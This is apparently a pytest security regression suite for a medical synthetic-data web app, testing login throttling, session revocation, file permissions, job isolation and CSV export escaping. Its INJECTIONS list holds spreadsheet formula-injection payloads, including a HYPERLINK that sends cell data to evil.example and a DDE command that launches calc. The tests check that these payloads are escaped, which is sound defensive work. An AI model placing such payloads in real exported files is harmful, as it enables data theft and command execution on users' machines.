"""Issue 20 (platform): each test is the attack that worked before, run against the real store, real
argon2 hashes, real job processes and the real pages (AppTest)."""

import csv
import hashlib
import io
import json
import os
import stat
import statistics
import threading
import time
from pathlib import Path

import pytest
from app_helpers import ROOT, account, logged_in
from streamlit.testing.v1 import AppTest

from medsyn_core import auth, jobs, model_store, permissions, settings
from medsyn_core.auth import AuthError, PermissionDenied, User
from medsyn_core.storage import Store

PW = "correct horse battery"


def _app() -> AppTest:
    return AppTest.from_file(str(ROOT / "app.py"), default_timeout=120)


def _cancelled_job_with_checkpoint(store: Store, owner: User) -> int:
    """A real example job that wrote one checkpoint and was then cancelled (run in this process, as
    the job's child process would run it)."""
    job_id = jobs.submit(store, owner, "example-primes", {"limit": 2000, "chunks": 4})
    assert jobs._claim_next(store, 2) == job_id
    jobs.request_cancel(store, owner, job_id)  # the job stops at its first progress report
    assert jobs.run_job(job_id) == "cancelled"
    job = jobs.get_job(store, job_id)
    assert job["checkpoint"] and Path(job["checkpoint"]).exists()
    return job_id


# -- 1. a stale User object of a disabled or demoted account ----------------------------------------
def test_disabled_or_demoted_account_cannot_act_with_a_stale_user_object():
    admin, rita = account("admin", "admin"), account("rita", "researcher")
    with Store() as store:
        job_id = _cancelled_job_with_checkpoint(store, rita)
        auth.set_active(store, admin, "rita", False)  # rita's Jobs page is still open
        for attempt in (lambda: jobs.resume(store, rita, job_id),
                        lambda: jobs.submit(store, rita, "example-primes", {}),
                        lambda: jobs.request_cancel(store, rita, job_id),
                        lambda: jobs.job_for(store, rita, job_id)):
            with pytest.raises(PermissionDenied, match="'rita' is disabled or no longer exists"):
                attempt()
        auth.set_active(store, admin, "rita", True)
        auth.set_role(store, admin, "rita", "clinician")  # demoted: the old researcher object is stale
        with pytest.raises(PermissionDenied, match="clinician role cannot run background jobs"):
            jobs.resume(store, rita, job_id)
        # an admin demoted or disabled while the Users / Model store page is open
        other = account("ada", "admin")
        auth.set_role(store, other, "admin", "researcher")
        with pytest.raises(PermissionDenied, match="researcher role cannot manage users"):
            auth.create_user(store, admin, "mallory", PW, "admin")
        with pytest.raises(PermissionDenied, match="researcher role cannot delete models"):
            model_store.delete_model(store, admin, "anything")
        events = [(e["actor"], e["action"]) for e in store.audit_events()]
    after_disable = events[events.index(("admin", "user_disabled")):]
    assert ("rita", "job_submitted") not in after_disable
    assert not any(name == "mallory" for name, _ in events)


def test_session_check_ends_disabled_and_idle_sessions_and_applies_the_current_role():
    admin, rita = account("admin", "admin"), account("rita", "researcher")
    with Store() as store:
        assert auth.check_session(store, "rita", time.time()) == rita
        auth.set_role(store, admin, "rita", "clinician")
        assert auth.check_session(store, "rita", time.time()).role == "clinician"
        with pytest.raises(auth.SessionEnded) as ended:
            auth.check_session(store, "rita", time.time() - auth.session_timeout_s() - 1)
        assert ended.value.reason == "expired"
        auth.set_active(store, admin, "rita", False)
        with pytest.raises(auth.SessionEnded) as ended:
            auth.check_session(store, "rita", time.time())
        assert ended.value.reason == "disabled"


def test_every_auto_refreshing_fragment_checks_the_session_first():
    """A fragment rerun skips the page's page_guard, so each fragment must call fragment_guard first
    (the live behaviour is tested in Chromium: tests/test_browser.py, disabled researcher step)."""
    import ast

    found = 0
    for path in sorted((ROOT / "pages").glob("*.py")):
        tree = ast.parse(path.read_text())
        # fragments made with the decorator, or by calling st.fragment(...)(function) (the pages that poll
        # only while a job runs choose run_every at that call)
        wrapped = {node.args[0].id for node in ast.walk(tree) if isinstance(node, ast.Call)
                   and isinstance(node.func, ast.Call) and "fragment" in ast.unparse(node.func.func)
                   and node.args and isinstance(node.args[0], ast.Name)}
        for node in ast.walk(tree):
            if not isinstance(node, ast.FunctionDef):
                continue
            decorated = any("fragment" in ast.unparse(d) for d in node.decorator_list)
            if node.name not in wrapped and not decorated:
                continue
            found += 1
            first = ast.unparse(node.body[0])
            assert "fragment_guard(" in first, f"{path.name}:{node.name} starts with {first!r}"
    assert found >= 4  # Jobs table, Tabular training, Synthetic scans training, imaging evaluation


# -- 5. login throttling and enumeration ----------------------------------------------------------
def test_sixteen_parallel_wrong_guesses_engage_the_lock_and_are_all_counted():
    account("rita", "researcher")
    with Store() as store:
        auth._insert_user(store, "sam", PW, "researcher")
    answers: list[str] = []
    barrier = threading.Barrier(16)

    def guess(i: int) -> None:
        with Store() as store:
            barrier.wait()
            try:
                auth.authenticate(store, "sam", f"guess number {i}")
            except AuthError as exc:
                answers.append(str(exc))

    threads = [threading.Thread(target=guess, args=(i,)) for i in range(16)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(120)
    assert len(answers) == 16
    checked = [a for a in answers if a.startswith("Wrong username or password")]
    assert len(checked) == auth.MAX_FAILURES  # no more guesses reach argon2 than the limit allows
    assert sum(a.startswith("Too many failed logins") for a in answers) == 16 - auth.MAX_FAILURES
    with Store() as store:
        key = auth._throttle_key("user", "sam")
        row = store._conn.execute("SELECT failures FROM login_throttle WHERE key=?", (key,)).fetchone()
        assert row["failures"] == 16
        assert auth.lock_remaining_s(store, "sam") > 60  # 30 s doubled per failure past the limit
        with pytest.raises(AuthError, match="Too many failed logins"):
            auth.authenticate(store, "sam", PW)  # even the right password while locked


def test_one_address_guessing_many_usernames_is_locked_but_others_are_not(monkeypatch):
    monkeypatch.setattr(auth, "MAX_SOURCE_FAILURES", 8)  # the default 20 costs 20 argon2 checks here
    with Store() as store:
        auth._insert_user(store, "rita", PW, "researcher")
        attacker = "203.0.113.9"
        for i in range(auth.MAX_SOURCE_FAILURES):
            with pytest.raises(AuthError, match="Wrong username or password"):
                auth.authenticate(store, f"user{i}", "guess", source=attacker)
        with pytest.raises(AuthError, match="Too many failed logins"):
            auth.authenticate(store, "rita", PW, source=attacker)
        assert auth.authenticate(store, "rita", PW, source="198.51.100.7").username == "rita"
        failed = [e for e in store.audit_events() if e["action"] == "login_failed"]
    assert len(failed) == auth.MAX_SOURCE_FAILURES and attacker in failed[0]["details_json"]


def test_unknown_disabled_and_real_usernames_take_the_same_time():
    admin = account("admin", "admin")
    with Store() as store:
        auth.create_user(store, admin, "rita", PW, "researcher")
        auth.create_user(store, admin, "old", PW, "researcher")
        auth.set_active(store, admin, "old", False)
        auth.warm_up()
        times: dict[str, list[float]] = {"rita": [], "nobody-here": [], "old": []}
        for _ in range(3):  # under the lock limit for each name
            for name in times:
                t = time.perf_counter()
                with pytest.raises(AuthError, match="Wrong username or password"):
                    auth.authenticate(store, name, "not the password")
                times[name].append(time.perf_counter() - t)
    real = statistics.median(times["rita"])
    for name in ("nobody-here", "old"):
        ratio = statistics.median(times[name]) / real
        assert 0.5 < ratio < 2.0, (name, times)


def test_what_was_typed_as_a_username_is_never_stored():
    typed = "Tr0ub4dor&3-typed-in-the-username-box"
    with Store() as store:
        auth._insert_user(store, "rita", PW, "researcher")
        for _ in range(2):
            with pytest.raises(AuthError):
                auth.authenticate(store, typed, "x", source="local")
        events = store.audit_events()
    raw = b"".join(p.read_bytes() for p in settings.home_dir().glob("medsyn.sqlite3*"))
    assert typed.lower().encode() not in raw and typed.encode() not in raw
    unknown = [e for e in events if e["actor"] == "(unknown user)"]
    assert len(unknown) == 2 and unknown[0]["details_json"] == unknown[1]["details_json"]  # same name_hash
    assert '"name_hash"' in unknown[0]["details_json"]


# -- 6. files at rest ------------------------------------------------------------------------------
def _open_to_others(root: Path) -> list[str]:
    return [f"{p} {stat.S_IMODE(p.stat().st_mode):04o}" for p in [root, *root.rglob("*")]
            if p.stat().st_mode & 0o077]


def test_files_medsyn_writes_are_private_even_under_umask_022(tmp_path):
    from medsyn_core.files import atomic_directory, atomic_write_json
    from medsyn_tabular.fit_job import save_upload

    old = os.umask(0o022)  # what a service started from a login shell has
    try:
        rita = account("rita", "researcher")
        home = settings.home_dir()
        save_upload(b"age,sex\n61,1\n", "real.csv")
        atomic_write_json(home / "reports" / "r.json", {"a": 1})
        with atomic_directory(settings.models_dir() / "m") as tmp:
            (tmp / "weights.bin").write_bytes(b"0")
        with Store() as store:
            job_id = jobs.submit(store, rita, "example-primes", {"limit": 2000, "chunks": 2})
            (proc,) = jobs.tick(store)  # a real job process: checkpoint.json and worker.log
            proc.wait(60)
            assert jobs.get_job(store, job_id)["status"] == "finished"
    finally:
        os.umask(old)
    assert (home / "jobs" / str(job_id) / "checkpoint.json").exists()
    # library writes under umask 022 are 0600/0700 by themselves (files made by other libraries inside
    # a MedSyn folder are protected by the 0700 folder; entry points also set umask 077)
    offenders = [o for o in _open_to_others(home) if not o.startswith(f"{settings.models_dir() / 'm'}/")]
    assert offenders == []
    for name in ("medsyn.sqlite3", "medsyn.sqlite3-wal", "medsyn.sqlite3-shm", "secret.key"):
        if (home / name).exists():
            assert stat.S_IMODE((home / name).stat().st_mode) == 0o600, name


def test_start_warns_about_an_open_home_and_tightens_what_medsyn_wrote(tmp_path, capsys):
    from medsyn_cli.main import main

    home = settings.home_dir()
    (home / "uploads").mkdir(mode=0o755)
    os.chmod(home / "uploads", 0o755)
    (home / "uploads" / "old.csv").write_text("age\n61\n")
    os.chmod(home / "uploads" / "old.csv", 0o644)
    os.chmod(home, 0o755)
    old = os.umask(0o022)
    try:
        assert main(["users", "list"]) == 0
        assert os.umask(0o022) == permissions.PRIVATE_UMASK  # the CLI set the service umask
    finally:
        os.umask(old)
    err = capsys.readouterr().err
    assert "Other local accounts can open the MedSyn home folder" in err and "chmod 700" in err
    assert _open_to_others(home) == [f"{home} 0755"]  # only the operator's own folder is left to them


def test_admins_see_the_open_home_folder_warning_in_the_sidebar_without_its_path():
    home = settings.home_dir()
    os.chmod(home, 0o755)
    at = logged_in("app.py", "admin").run()
    warnings = [w.value for w in at.sidebar.warning]
    assert any("Other local accounts can open the MedSyn home folder (mode 0755)" in w for w in warnings)
    assert not any(str(home) in w for w in warnings)
    at = logged_in("app.py", "researcher").run()
    assert not at.sidebar.warning


@pytest.mark.slow
def test_security_checks_bench_cycle_leaves_nothing_readable_by_others():
    """The full train/sample/export cycle through the real CLI (bench/security_checks.py)."""
    import subprocess
    import sys

    proc = subprocess.run([sys.executable, str(ROOT / "bench" / "security_checks.py")], cwd=ROOT,
                          capture_output=True, text=True, timeout=900)
    assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-3000:]
    assert "no file or folder is readable by group or others" in proc.stdout


# -- 7. CSV formula injection --------------------------------------------------------------------
INJECTIONS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3",
              "\t=1", "\r=1", "\uff1dSUM(1)"]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_synthetic_csv_export_escapes_formulas_but_keeps_numbers():
    import pandas as pd

    from medsyn_core.csv_export import to_csv_text

    n = len(INJECTIONS)
    df = pd.DataFrame({"=cmd": INJECTIONS, "code": ["-1"] * n, "value": [-3.5] * n,
                       "kind": pd.Categorical(["@x"] * n), "ok": ["plain"] * n})
    header, *rows = _cells(to_csv_text(df))
    assert header == ["'=cmd", "code", "value", "kind", "ok"]
    assert [r[0] for r in rows] == ["'" + v for v in INJECTIONS]
    assert {r[1] for r in rows} == {"-1"} and {r[2] for r in rows} == {"-3.5"}  # numbers stay numbers
    assert {r[3] for r in rows} == {"'@x"} and {r[4] for r in rows} == {"plain"}
    raw_header, *raw_rows = _cells(to_csv_text(df, raw=True))
    assert raw_header[0] == "=cmd" and [r[0] for r in raw_rows] == INJECTIONS


def test_cli_sample_of_a_model_trained_on_injected_categories_is_spreadsheet_safe(tmp_path, capsys):
    import pandas as pd

    from medsyn_cli.main import main
    from medsyn_tabular.synthesizer import TabularSynthesizer

    real = pd.DataFrame({"ward": [INJECTIONS[i % 3] for i in range(60)],
                         "delta": [float(i % 7) - 3 for i in range(60)]})
    synth = TabularSynthesizer("tvae", epochs=1, batch_size=30, seed=0).fit(real)
    synth.save(tmp_path / "model")
    out, raw_out = tmp_path / "safe.csv", tmp_path / "raw.csv"
    assert main(["tabular", "sample", str(tmp_path / "model"), "-n", "100", "--out", str(out)]) == 0
    assert "spreadsheet-safe" in capsys.readouterr().out
    assert main(["tabular", "sample", str(tmp_path / "model"), "-n", "100", "--out", str(raw_out),
                 "--raw"]) == 0
    _, *rows = _cells(out.read_text())
    assert {r[0] for r in rows} <= {"'" + v for v in INJECTIONS[:3]}
    assert any(float(r[1]) < 0 for r in rows if r[1])  # negative numbers are written as numbers
    _, *raw_rows = _cells(raw_out.read_text())
    assert {r[0] for r in raw_rows} <= set(INJECTIONS[:3])
    assert stat.S_IMODE(out.stat().st_mode) == 0o600


# -- 8. job ownership, secrets in child processes, first-run form, upload audit --------------------
def test_researcher_cannot_resume_cancel_or_read_another_researchers_job():
    rita, sam, admin = account("rita", "researcher"), account("sam", "researcher"), account("ad", "admin")
    with Store() as store:
        job_id = _cancelled_job_with_checkpoint(store, rita)
        for attempt in (lambda: jobs.resume(store, sam, job_id),
                        lambda: jobs.request_cancel(store, sam, job_id),
                        lambda: jobs.job_for(store, sam, job_id)):
            with pytest.raises(PermissionDenied, match=f"job {job_id} is not yours"):
                attempt()
        with pytest.raises(PermissionDenied, match="job 999 is not yours"):  # no probing of ids
            jobs.job_for(store, sam, 999)
        (seen,) = jobs.visible_jobs(store, sam)
        assert seen["owner"] is None and "params" not in seen and "checkpoint" not in seen
        assert jobs.visible_jobs(store, admin)[0]["params"] == {"limit": 2000, "chunks": 4}
        new_id = jobs.resume(store, admin, job_id)  # admins act on every job
        assert jobs.job_for(store, rita, job_id)["id"] == job_id and new_id != job_id


def test_jobs_page_shows_another_researchers_job_without_its_details_or_buttons():
    rita = account("rita", "researcher")
    with Store() as store:  # a training job that fails at once: its table file does not exist
        job_id = jobs.submit(store, rita, "tabular-fit", {"data_path": "no-such-table.csv", "epochs": 1,
                                                          "name": "rita-model"})
        (proc,) = jobs.tick(store)
        proc.wait(120)
        assert "FileNotFoundError" in jobs.get_job(store, job_id)["error"]
    at = logged_in("pages/jobs.py", "researcher").run()  # test-researcher, not rita
    assert not at.exception, at.exception
    (row,) = at.dataframe[0].value.to_dict("records")
    assert row["job"] == job_id and row["owner"] == "another user" and row["status"] == "failed"
    assert row["result"] == "" and row["message"] == ""
    assert not at.error and not at.selectbox and not at.button  # nothing to act on, nothing to read
    own = logged_in("pages/jobs.py", "researcher")
    own.session_state["medsyn_auth"] = {"username": "rita", "last_seen": time.time()}
    own.run()
    assert "FileNotFoundError" in own.error[0].value  # the owner sees the error


def test_the_example_job_is_out_of_users_view():
    """Issue 19: the Jobs page listed a prime-counting example beside users' work."""
    admin = account("ada", "admin")
    with Store() as store:
        jobs.submit(store, admin, "example-primes", {"limit": 2000, "chunks": 2})
    researcher = logged_in("pages/jobs.py", "researcher").run()
    assert not researcher.dataframe and not any(b.label == "Start example job" for b in researcher.button)
    at = logged_in("pages/jobs.py", "admin").run()
    assert at.dataframe[0].value["what"].tolist() == ["example (self-test)"]
    assert any(b.label == "Start example job" for b in at.button)


def test_job_processes_never_get_the_admin_password_or_other_secrets(monkeypatch):
    monkeypatch.setenv(auth.ADMIN_PASSWORD_ENV, PW)
    monkeypatch.setenv("MEDSYN_SMTP_PASSWORD", "smtp secret")
    monkeypatch.setenv("MEDSYN_PROBE_PLAIN", "kept")
    monkeypatch.setenv("PYTHONPATH", str(ROOT / "tests"))  # the job process imports job_probe from there
    jobs.register_job_type("env-probe", "job_probe:environment", "run_example_job")
    try:
        rita = account("rita", "researcher")
        with Store() as store:
            job_id = jobs.submit(store, rita, "env-probe")
            (proc,) = jobs.tick(store)
            proc.wait(60)
            result = jobs.get_job(store, job_id)["result"]
    finally:
        del jobs.JOB_TYPES["env-probe"]
    assert result is not None, "the probe job did not finish"
    assert auth.ADMIN_PASSWORD_ENV not in result["names"] and "MEDSYN_SMTP_PASSWORD" not in result["names"]
    assert "MEDSYN_PROBE_PLAIN" in result["names"] and result["umask"] == permissions.PRIVATE_UMASK


def test_admin_password_is_removed_from_the_app_process_once_read(monkeypatch):
    monkeypatch.setenv(auth.ADMIN_PASSWORD_ENV, PW)
    at = _app().run()
    assert at.title[0].value == "MedSyn — log in"  # the admin was created from the variable
    assert auth.ADMIN_PASSWORD_ENV not in os.environ


def test_first_run_form_is_refused_to_a_remote_visitor_without_the_token(capsys):
    at = _app()
    at.context["url"] = "https://medsyn.hospital.example/"
    at.run()
    assert at.title[0].value == "MedSyn — first run"
    assert [t.label for t in at.text_input] == ["Set-up token"]  # no admin form
    at.text_input[0].input("a guess")
    at.button[0].click().run()
    assert "not the set-up token" in at.error[0].value
    with Store() as store:
        assert not auth.has_users(store)
        assert store.audit_events()[-1]["action"] == "first_run_refused"
    token = capsys.readouterr().err.split("create the admin account: ")[-1].split()[0]
    at.text_input[0].input(token)
    at.button[0].click().run()
    assert "Admin username" in [t.label for t in at.text_input]
    at.text_input[1].input(PW)
    at.text_input[2].input(PW)
    at.button[0].click().run()
    assert not at.exception, at.exception
    assert at.title[0].value == "MedSyn"
    local = _app().run()  # the existing local-visitor flow is tested in tests/test_app.py
    assert local.title[0].value == "MedSyn — log in"


def test_imaging_and_evaluation_uploads_of_real_data_are_audited_once_without_names():
    import numpy as np

    from medsyn_imaging.io.image_io import png_bytes

    png = png_bytes(np.arange(64, dtype=np.uint8).reshape(8, 8))
    at = logged_in("pages/imaging.py", "researcher").run()
    at.radio[0].set_value("Upload files").run()
    at.file_uploader[0].upload("patient-jane-doe.png", png, "image/png")
    at.run()
    assert not at.exception, at.exception
    at.run()  # a rerun does not audit the same upload again
    csv_bytes = (ROOT / "data" / "tabular" / "heart_cleveland.csv").read_bytes()
    ev = logged_in("pages/evaluation.py", "researcher").run()
    ev.radio[1].set_value("Upload a CSV").run()
    ev.file_uploader[0].upload("real-patients.csv", csv_bytes, "text/csv")
    ev.run()
    assert not ev.exception, ev.exception
    with Store() as store:
        uploads = [e for e in store.audit_events() if e["action"] == "upload"]
    expected = [{"bytes": len(blob), "file_sha256_prefix": hashlib.sha256(blob).hexdigest()[:16], "files": 1,
                 "where": where} for blob, where in ((png, "imaging"), (csv_bytes, "evaluation"))]
    assert [(e["actor"], json.loads(e["details_json"])) for e in uploads] == [
        ("test-researcher", details) for details in expected]
    assert "patient" not in "".join(e["details_json"] for e in uploads)
